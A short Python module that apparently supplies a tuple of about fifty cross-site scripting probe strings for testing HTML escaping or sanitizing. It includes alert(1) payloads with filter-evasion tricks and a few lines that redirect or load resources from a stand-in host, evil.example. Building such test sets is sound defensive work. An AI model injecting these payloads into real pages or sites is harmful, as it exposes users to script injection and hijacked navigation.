"""Texts that would run as script, or change a page, if one of them went into it as it is."""

PROBES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)' '", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</pre><img src=x onerror=alert(1)>", "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>x", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>", "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)", '<IMG SRC="jav&#x09;ascript:alert(1)">', "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)", "<script\x00>alert(1)</script>", "<\u200bscript>alert(1)",
    "\u202e<script>alert(1)</script>", "<script\x0c>alert(1)</script>", "`onclick=alert(1)//",
    "{{7*7}}<b>${alert(1)}", "<x contenteditable onblur=alert(1)>", "<button formaction=javascript:alert(1)>x",
    '<svg><use href="data:,x"/>', "<svg><animate onbegin=alert(1) attributeName=x>",
    '<a\x09href="java\x09script:alert(1)">x</a>',
)  # fmt: skip
